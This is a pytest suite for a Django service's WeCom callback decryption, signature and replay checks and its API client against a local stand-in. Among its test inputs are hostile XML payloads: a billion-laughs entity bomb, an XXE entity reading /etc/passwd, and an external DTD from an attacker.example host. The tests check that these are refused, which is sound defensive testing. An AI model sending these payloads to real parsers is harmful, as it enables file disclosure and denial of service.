"""The WeCom protocol layer: the callback door (sealed here as WeCom seals it) and the
API client against the local stand-in (wecom_standin.py)."""

import json
import re
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.utils import timezone

from fanrepublic.trust.wecom import (
    Callback,
    CallbackRefused,
    WeComClient,
    WeComNotFound,
    WeComUnavailable,
    archive_message_json,
    archive_recall_json,
    contact_event_xml,
    group_event_xml,
    open_callback,
    seal_callback,
    verify_url,
)

AT = datetime(2026, 3, 14, 9, 26, 53, tzinfo=UTC)
OTHER_AES_KEY = "T3RoZXJDb21wYW55S2V5Rm9yV2VDb21DYWxsYmFja3M"  # 43 characters, another company's


def opened(payload: str) -> Callback:
    body, params = seal_callback(payload=payload)
    return open_callback(body=body, **params)


def refusal(body: bytes, params: dict) -> str:
    with pytest.raises(CallbackRefused) as caught:
        open_callback(body=body, **params)
    assert str(caught.value.message)
    return caught.value.reason


def encrypt_field(body: bytes) -> str:
    return re.search(rb"<Encrypt><!\[CDATA\[(.*?)\]\]></Encrypt>", body).group(1).decode()


def sealed_with(settings, payload: str, **overrides) -> tuple[bytes, dict]:
    """A callback sealed under other settings (another key, another company)."""
    originals = {name: getattr(settings, name) for name in overrides}
    for name, value in overrides.items():
        setattr(settings, name, value)
    try:
        return seal_callback(payload=payload)
    finally:
        for name, value in originals.items():
            setattr(settings, name, value)


def text_message(text: str, **fields) -> str:
    return archive_message_json(
        **{"msgid": "msg-1", "chat_id": "wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA", "sender": "wmCustomer1", "at": AT}
        | fields,
        text=text,
    )


# URL verification ----------------------------------------------------------------------


def test_url_verification_answers_the_decrypted_echostr():
    # given WeCom's verification request, sealed with our token and key
    body, params = seal_callback(payload="1616140317555161061")

    # when it is verified
    echo = verify_url(echostr=encrypt_field(body), **params)

    # then the plain echostr comes back
    assert echo == "1616140317555161061"


def test_url_verification_with_a_bad_signature_is_refused():
    body, params = seal_callback(payload="1616140317555161061")

    with pytest.raises(CallbackRefused) as caught:
        verify_url(echostr=encrypt_field(body), **(params | {"msg_signature": "0" * 40}))

    assert caught.value.reason == "bad_signature"


def test_url_verification_encrypted_with_another_key_is_refused(settings):
    body, params = sealed_with(settings, "echo", WECOM_CALLBACK_AES_KEY=OTHER_AES_KEY)

    with pytest.raises(CallbackRefused) as caught:
        verify_url(echostr=encrypt_field(body), **params)

    assert caught.value.reason == "undecryptable"


# Callbacks that open -------------------------------------------------------------------


@pytest.mark.parametrize("change", ["add", "edit", "del", "del_follow_user", "add_half"])
def test_a_contact_event_opens_to_its_change(change):
    # given WeCom's change_external_contact event
    payload = contact_event_xml(
        change=change, staff_userid="zhangsan", external_userid="wmGZ2BDAAAgbRsxwlcBlnf6pnQyRn4sA", at=AT
    )

    # when it is opened
    callback = opened(payload)

    # then it reads as that change between that staff member and that customer
    assert callback == Callback(
        kind="contact",
        event="change_external_contact",
        change=change,
        staff_userid="zhangsan",
        external_userid="wmGZ2BDAAAgbRsxwlcBlnf6pnQyRn4sA",
        at=AT,
    )


def test_a_contact_event_keeps_its_state():
    payload = contact_event_xml(
        change="add",
        staff_userid="lisi",
        external_userid="woAJ2GCAAAXtWyujaWJHDDGi0mACAAAA",
        at=AT,
        state="su7-launch",
    )

    assert opened(payload).state == "su7-launch"


@pytest.mark.parametrize(
    ("change", "update_detail"),
    [("create", ""), ("update", "add_member"), ("update", "del_member"), ("update", "change_owner"),
     ("update", "change_name"), ("update", "change_notice"), ("dismiss", "")],
)  # fmt: skip
def test_a_group_event_opens_to_its_change(change, update_detail):
    # given WeCom's change_external_chat event
    payload = group_event_xml(
        change=change,
        chat_id="wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA",
        at=AT,
        update_detail=update_detail,
        join_scene=1 if update_detail == "add_member" else None,
        member_change_count=2 if update_detail in ("add_member", "del_member") else None,
    )

    # when it is opened
    callback = opened(payload)

    # then it reads as that change of that group
    assert callback.kind == "group"
    assert (callback.change, callback.chat_id, callback.update_detail) == (
        change,
        "wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA",
        update_detail,
    )
    assert callback.at == AT
    assert callback.join_scene == (1 if update_detail == "add_member" else None)
    assert callback.member_change_count == (2 if update_detail in ("add_member", "del_member") else None)


@pytest.mark.parametrize(
    "text",
    [
        "小米SU7的续航在冬天怎么样？",
        "How does the range hold up in winter?",
        "充电好快 🚗⚡️👍",
        "a\nsecond line",
    ],
)
def test_an_archived_text_message_opens_with_its_text(text):
    # given a text message as the archive relay forwards it
    payload = text_message(text, recipients=["zhangsan", "wmCustomer2"])

    # when it is opened
    callback = opened(payload)

    # then every field is there, the time to the millisecond
    assert callback == Callback(
        kind="message",
        event="send",
        msgid="msg-1",
        chat_id="wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA",
        sender="wmCustomer1",
        sender_is_external=True,
        recipients=("zhangsan", "wmCustomer2"),
        msgtype="text",
        text=text,
        at=AT,
    )


@pytest.mark.parametrize(
    ("sender", "external"),
    [("wmCustomer1", True), ("woCustomer2", True), ("zhangsan", False), ("wang.wu", False)],
)
def test_a_sender_is_external_by_wecoms_id_prefix(sender, external):
    assert opened(text_message("hi", sender=sender)).sender_is_external is external


def test_a_one_to_one_message_has_no_chat_id():
    assert opened(text_message("你好", chat_id="")).chat_id == ""


def test_a_message_of_another_type_has_no_text():
    record = json.loads(text_message("unused"))
    record.pop("text")
    record |= {"msgtype": "image", "image": {"md5sum": "50de8e5ae8ffe4f1df7a93841f71993a", "filesize": 70961}}

    callback = opened(json.dumps(record))

    assert (callback.kind, callback.msgtype, callback.text) == ("message", "image", "")


def test_a_recall_opens_naming_the_recalled_message():
    payload = archive_recall_json(
        msgid="msg-2",
        chat_id="wrOgQhDgAAMYQiS5ol9G7gK9JVAAAA",
        sender="wmCustomer1",
        recalled_msgid="msg-1",
        at=AT,
    )

    callback = opened(payload)

    assert (callback.kind, callback.msgtype, callback.recalled_msgid, callback.msgid) == (
        "message",
        "recall",
        "msg-1",
        "msg-2",
    )


@pytest.mark.parametrize(
    ("payload", "event"),
    [
        (
            "<xml><ToUserName><![CDATA[ww-fanrepublic-demo]]></ToUserName><CreateTime>1773480413</CreateTime>"
            "<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[change_external_tag]]></Event>"
            "<Id><![CDATA[TAG_ID]]></Id><TagType><![CDATA[tag]]></TagType>"
            "<ChangeType><![CDATA[create]]></ChangeType></xml>",
            "change_external_tag",
        ),
        (
            "<xml><CreateTime>1773480413</CreateTime><MsgType><![CDATA[text]]></MsgType>"
            "<Content><![CDATA[hello]]></Content></xml>",
            "text",
        ),
        ('{"msgid": "msg-3", "action": "switch", "time": 1773480413000, "user": "zhangsan"}', "switch"),
    ],
)
def test_anything_else_opens_as_unknown_with_its_name(payload, event):
    callback = opened(payload)

    assert (callback.kind, callback.event) == ("unknown", event)


def test_an_unknown_contact_change_type_is_unknown():
    payload = contact_event_xml(change="add", staff_userid="zhangsan", external_userid="wmA", at=AT).replace(
        "add_external_contact", "transfer_fail"
    )

    callback = opened(payload)

    assert (callback.kind, callback.event, callback.change) == (
        "unknown",
        "change_external_contact",
        "transfer_fail",
    )


# Refusals ------------------------------------------------------------------------------

CONTACT = contact_event_xml(change="add", staff_userid="zhangsan", external_userid="wmA", at=AT)


def test_a_wrong_signature_is_refused():
    body, params = seal_callback(payload=CONTACT)

    assert refusal(body, params | {"msg_signature": "f" * 40}) == "bad_signature"


def test_a_tampered_body_is_refused():
    body, params = seal_callback(payload=CONTACT)
    encrypted = encrypt_field(body)
    tampered = body.replace(
        encrypted.encode(), (("A" if encrypted[0] != "A" else "B") + encrypted[1:]).encode()
    )

    assert refusal(tampered, params) == "bad_signature"


def test_a_tampered_nonce_or_timestamp_is_refused():
    body, params = seal_callback(payload=CONTACT)

    assert refusal(body, params | {"nonce": "another"}) == "bad_signature"
    assert refusal(body, params | {"timestamp": str(int(params["timestamp"]) + 1)}) == "bad_signature"


def test_a_body_encrypted_with_another_key_is_refused(settings):
    # given a callback signed with our token but encrypted with another company's key
    body, params = sealed_with(settings, CONTACT, WECOM_CALLBACK_AES_KEY=OTHER_AES_KEY)

    assert refusal(body, params) == "undecryptable"


def test_a_callback_for_another_corp_is_refused(settings):
    # given a callback encrypted for another company (the receive id inside the ciphertext)
    body, params = sealed_with(settings, CONTACT, WECOM_CORP_ID="ww-another-company")

    assert refusal(body, params) == "undecryptable"


def test_an_envelope_addressed_to_another_corp_is_refused():
    body, params = seal_callback(payload=CONTACT)

    readdressed = body.replace(b"ww-fanrepublic-demo", b"ww-another-company")

    assert refusal(readdressed, params) == "undecryptable"


@pytest.mark.parametrize("seconds", [301, -301, 3600, -86400])
def test_a_callback_outside_the_time_window_is_refused(seconds):
    # given a callback sealed now
    body, params = seal_callback(payload=CONTACT)

    # when it arrives more than five minutes later (or the clock is that far behind)
    with time_machine.travel(timezone.now() + timedelta(seconds=seconds)):
        reason = refusal(body, params)

    assert reason == "stale_timestamp"


@pytest.mark.parametrize("seconds", [290, -290])
def test_a_callback_inside_the_time_window_opens(seconds):
    body, params = seal_callback(payload=CONTACT)

    with time_machine.travel(timezone.now() + timedelta(seconds=seconds)):
        assert open_callback(body=body, **params).kind == "contact"


def test_the_window_follows_the_setting(settings):
    settings.WECOM_CALLBACK_WINDOW_SECONDS = 30
    body, params = seal_callback(payload=CONTACT)

    with time_machine.travel(timezone.now() + timedelta(seconds=60)):
        assert refusal(body, params) == "stale_timestamp"


def test_a_replayed_callback_is_refused():
    # given a callback that has been opened
    body, params = seal_callback(payload=CONTACT)
    open_callback(body=body, **params)

    # when the same callback arrives again, a little later
    with time_machine.travel(timezone.now() + timedelta(seconds=120)):
        reason = refusal(body, params)

    # then it is a replay
    assert reason == "replayed"


def test_a_forged_callback_does_not_burn_the_real_signature():
    # given a real callback, and a forgery that copies its signature
    body, params = seal_callback(payload=CONTACT)
    forged, _ = seal_callback(payload=CONTACT.replace("zhangsan", "mallory"))
    assert refusal(forged, params) == "bad_signature"

    # when the real one arrives, it still opens
    assert open_callback(body=body, **params).staff_userid == "zhangsan"


def test_two_callbacks_in_the_same_second_both_open():
    first = seal_callback(payload=CONTACT, timestamp=int(timezone.now().timestamp()))
    second = seal_callback(payload=CONTACT, timestamp=int(first[1]["timestamp"]))

    assert open_callback(body=first[0], **first[1]).kind == "contact"
    assert open_callback(body=second[0], **second[1]).kind == "contact"


@pytest.mark.parametrize(
    "timestamp", ["", "abc", "12.5", "-5", "1e9", " 1773480413", "１７７３４８０４１３", "9" * 20]
)
def test_a_timestamp_that_is_not_an_integer_is_refused(timestamp):
    body, params = seal_callback(payload=CONTACT)

    assert refusal(body, params | {"timestamp": timestamp}) == "malformed"


@pytest.mark.parametrize(
    "body",
    [b"", b"not xml at all", b"<xml><Encrypt>", b"<other><Encrypt>abc</Encrypt></other>", b"<xml></xml>",
     b'<xml><Encrypt a="1">abc</Encrypt></xml>', b"\xff\xfe<xml/>", b"[1, 2]"],
)  # fmt: skip
def test_a_garbage_envelope_is_refused(body):
    _, params = seal_callback(payload=CONTACT)

    assert refusal(body, params) == "malformed"


SEND = {
    "action": "send",
    "msgid": "m",
    "from": "wmA",
    "msgtime": 1,
    "msgtype": "text",
    "text": {"content": "x"},
}


@pytest.mark.parametrize(
    "payload",
    [
        "neither XML nor JSON",
        "<xml><MsgType>event",
        "<xml>&undefined;</xml>",
        "{not json",
        "[1, 2, 3]",
        "[" * 100_000,
        json.dumps({k: v for k, v in SEND.items() if k != "msgtime"}),
        json.dumps(SEND | {"msgtime": "1773480413000"}),
        json.dumps(SEND | {"msgid": 5}),
        json.dumps(SEND | {"text": "x"}),
        json.dumps(SEND | {"tolist": "wmB"}),
        json.dumps(SEND | {"action": "recall", "msgtype": "revoke"}),
    ],
)
def test_a_garbage_payload_is_refused(payload):
    assert refusal(*seal_callback(payload=payload)) == "malformed"


def test_a_contact_event_without_its_ids_is_refused():
    payload = CONTACT.replace("<UserID><![CDATA[zhangsan]]></UserID>", "")

    assert refusal(*seal_callback(payload=payload)) == "malformed"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><MsgType>event</MsgType><Event>change_external_contact</Event><ChangeType>add_external_contact</ChangeType>
<UserID>&lol9;</UserID><ExternalUserID>wmA</ExternalUserID><CreateTime>1773480413</CreateTime></xml>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><MsgType>event</MsgType><Event>change_external_contact</Event><ChangeType>add_external_contact</ChangeType>
<UserID>&xxe;</UserID><ExternalUserID>wmA</ExternalUserID><CreateTime>1773480413</CreateTime></xml>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><MsgType>event</MsgType><Event>change_external_contact</Event><ChangeType>add_external_contact</ChangeType>
<UserID>&xxe;</UserID><ExternalUserID>wmA</ExternalUserID><CreateTime>1773480413</CreateTime></xml>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_entity_tricks_in_the_payload_are_refused_unexpanded(payload):
    assert refusal(*seal_callback(payload=payload)) == "malformed"


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_entity_tricks_in_the_envelope_are_refused_unexpanded(xml):
    body, params = seal_callback(payload=CONTACT)
    envelope = xml.replace("<UserID>", f"<Encrypt>{encrypt_field(body)}</Encrypt><UserID>")

    assert refusal(envelope.encode(), params) == "malformed"


def test_text_of_the_longest_length_opens_and_one_more_is_refused():
    assert opened(text_message("长" * 4000)).text == "长" * 4000

    assert refusal(*seal_callback(payload=text_message("长" * 4001))) == "malformed"


def test_an_id_longer_than_64_is_refused():
    assert opened(text_message("hi", msgid="m" * 64)).msgid == "m" * 64

    assert refusal(*seal_callback(payload=text_message("hi", msgid="m" * 65))) == "malformed"


@pytest.mark.parametrize(
    ("field", "value"),
    [("from", "wm\x00A"), ("msgid", "m\x00"), ("roomid", "wr\nA"), ("from", "wm\udfffA"),
     ("text", {"content": "NUL \x00 inside"}), ("text", {"content": "lone \ud800 surrogate"})],
)  # fmt: skip
def test_nul_control_characters_and_lone_surrogates_are_refused(field, value):
    # json.dumps escapes them ("\\u0000", "\\ud800"), as a relay would
    payload = json.dumps(json.loads(text_message("hi")) | {field: value})

    assert refusal(*seal_callback(payload=payload)) == "malformed"


def test_a_nul_character_reference_in_xml_is_refused():
    payload = CONTACT.replace("<![CDATA[zhangsan]]>", "zhang&#0;san")

    assert refusal(*seal_callback(payload=payload)) == "malformed"


def test_an_oversized_body_is_refused():
    body, params = seal_callback(payload=CONTACT)

    from fanrepublic.trust.wecom import MAX_BODY_BYTES

    assert refusal(body + b" " * MAX_BODY_BYTES, params) == "malformed"


# The API client against the stand-in ----------------------------------------------------


def preload(server):
    server.add_contact(
        "wmCustomer1",
        name="李雷",
        gender=1,
        follow_user=[
            {"userid": "zhangsan", "remark": "SU7 owner", "state": "su7-launch", "createtime": 1773480413}
        ],
    )
    server.add_group(
        "wrGroup1",
        name="SU7 车主群",
        owner="zhangsan",
        notice="Welcome 欢迎",
        create_time=1773480413,
        members=[
            {"userid": "zhangsan", "type": 1, "join_time": 1773480413, "join_scene": 1, "name": "张三"},
            {"userid": "wmCustomer1", "type": 2, "join_time": 1773480999, "join_scene": 3, "name": "李雷"},
        ],
    )


def test_a_contact_is_read_from_wecom(wecom_server):
    # given WeCom knows a customer
    preload(wecom_server)

    # when the client asks about them
    contact = WeComClient().external_contact("wmCustomer1")

    # then the answer is normalised, and it came from the stand-in, with a token
    assert contact == {
        "external_userid": "wmCustomer1",
        "name": "李雷",
        "avatar": "http://p.qlogo.cn/bizmail/demo/0",
        "type": 1,
        "gender": 1,
        "unionid": "oCustomer1",
        "follow_user": [
            {
                "userid": "zhangsan",
                "remark": "SU7 owner",
                "state": "su7-launch",
                "added_at": datetime.fromtimestamp(1773480413, tz=UTC),
            }
        ],
    }
    [seen] = wecom_server.calls("externalcontact/get")
    assert seen.method == "GET"
    assert seen.query == {"access_token": "standin-token-1", "external_userid": "wmCustomer1"}
    assert wecom_server.outside == []


def test_a_group_is_read_from_wecom(wecom_server):
    preload(wecom_server)

    group = WeComClient().group_chat("wrGroup1")

    assert (group["chat_id"], group["name"], group["owner"], group["notice"]) == (
        "wrGroup1",
        "SU7 车主群",
        "zhangsan",
        "Welcome 欢迎",
    )
    assert group["created_at"] == datetime.fromtimestamp(1773480413, tz=UTC)
    assert group["member_list"] == [
        {
            "userid": "zhangsan",
            "type": 1,
            "name": "张三",
            "join_time": datetime.fromtimestamp(1773480413, tz=UTC),
            "join_scene": 1,
        },
        {
            "userid": "wmCustomer1",
            "type": 2,
            "name": "李雷",
            "join_time": datetime.fromtimestamp(1773480999, tz=UTC),
            "join_scene": 3,
        },
    ]
    [seen] = wecom_server.calls("externalcontact/groupchat/get")
    assert (seen.method, seen.body) == ("POST", {"chat_id": "wrGroup1", "need_name": 1})
    assert wecom_server.outside == []


def test_the_token_is_fetched_once_and_shared_across_calls_and_clients(wecom_server):
    preload(wecom_server)

    first = WeComClient()
    first.external_contact("wmCustomer1")
    first.group_chat("wrGroup1")
    WeComClient().external_contact("wmCustomer1")

    [fetch] = wecom_server.calls("gettoken")
    assert fetch.query == {"corpid": "ww-fanrepublic-demo", "corpsecret": "standin-secret"}
    assert len(wecom_server.requests) == 4


def test_an_expired_token_is_refreshed_and_the_call_repeated_once(wecom_server):
    # given a client with a token, which WeCom then declares expired
    preload(wecom_server)
    client = WeComClient()
    client.external_contact("wmCustomer1")
    wecom_server.expire_token()

    # when the client asks again
    contact = client.external_contact("wmCustomer1")

    # then it fetched a new token and repeated the refused call with it
    assert contact["name"] == "李雷"
    assert len(wecom_server.calls("gettoken")) == 2
    assert [seen.query["access_token"] for seen in wecom_server.calls("externalcontact/get")] == [
        "standin-token-1",
        "standin-token-1",
        "standin-token-2",
    ]


def test_a_token_that_wecom_keeps_refusing_is_refreshed_only_once(wecom_server):
    preload(wecom_server)
    wecom_server.expire_token(times=5)

    with pytest.raises(WeComUnavailable) as caught:
        WeComClient().external_contact("wmCustomer1")

    assert caught.value.errcode == 42001
    assert len(wecom_server.calls("gettoken")) == 2
    assert len(wecom_server.calls("externalcontact/get")) == 2


def test_the_next_call_after_a_refused_refresh_may_refresh_again(wecom_server):
    preload(wecom_server)
    client = WeComClient()
    wecom_server.expire_token(times=2)
    with pytest.raises(WeComUnavailable):
        client.external_contact("wmCustomer1")

    assert client.external_contact("wmCustomer1")["name"] == "李雷"


def test_a_busy_wecom_is_retried(wecom_server):
    # given WeCom answers 503 twice
    preload(wecom_server)
    client = WeComClient()
    client.external_contact("wmCustomer1")
    wecom_server.fail_next(2, status=503)

    # when the client asks
    contact = client.external_contact("wmCustomer1")

    # then the third attempt answered
    assert contact["name"] == "李雷"
    assert len(wecom_server.calls("externalcontact/get")) == 4


def test_the_token_fetch_is_retried_too(wecom_server):
    preload(wecom_server)
    wecom_server.fail_next(1, status=502)

    assert WeComClient().group_chat("wrGroup1")["name"] == "SU7 车主群"
    assert len(wecom_server.calls("gettoken")) == 2


def test_failing_beyond_the_retries_is_unavailable(settings, wecom_server):
    # given WeCom keeps failing, more often than the client retries
    settings.WECOM_HTTP_RETRIES = 2
    preload(wecom_server)
    client = WeComClient()
    client.external_contact("wmCustomer1")
    wecom_server.fail_next(3, status=503)

    # when the client asks, then it gives up with a domain error after three attempts
    with pytest.raises(WeComUnavailable) as caught:
        client.external_contact("wmCustomer1")

    assert caught.value.status == 503
    assert len(wecom_server.calls("externalcontact/get")) == 4


def test_an_unknown_contact_is_not_found(wecom_server):
    with pytest.raises(WeComNotFound) as caught:
        WeComClient().external_contact("wmNobody")

    assert caught.value.errcode == 84061
    assert str(caught.value.message) == "WeCom does not know this contact."


def test_an_unknown_group_is_not_found(wecom_server):
    with pytest.raises(WeComNotFound) as caught:
        WeComClient().group_chat("wrNoSuchGroup")

    assert str(caught.value.message) == "WeCom does not know this group."


def test_a_wrong_secret_is_unavailable_not_a_crash(settings, wecom_server):
    settings.WECOM_SECRET = "not-the-secret"

    with pytest.raises(WeComUnavailable) as caught:
        WeComClient().external_contact("wmCustomer1")

    assert caught.value.errcode == 40001


def test_an_unreachable_wecom_is_unavailable(settings, wecom_server):
    base = wecom_server.base_url
    settings.WECOM_HTTP_RETRIES = 0
    wecom_server.stop()
    settings.WECOM_API_BASE = base

    with pytest.raises(WeComUnavailable):
        WeComClient().external_contact("wmCustomer1")


def test_the_real_wecom_is_never_reached(settings, wecom_server):
    # given the settings point at WeCom itself, the guard still stands between
    settings.WECOM_API_BASE = "https://qyapi.weixin.qq.com/cgi-bin/"
    settings.WECOM_HTTP_RETRIES = 0

    with pytest.raises(WeComUnavailable):
        WeComClient().external_contact("wmCustomer1")

    assert wecom_server.outside == [("qyapi.weixin.qq.com", 443)]


def test_without_a_secret_the_client_is_not_configured(settings):
    settings.WECOM_SECRET = ""

    assert WeComClient.is_configured() is False
    with pytest.raises(WeComUnavailable) as caught:
        WeComClient().external_contact("wmCustomer1")
    assert caught.value.code == "wecom_not_configured"
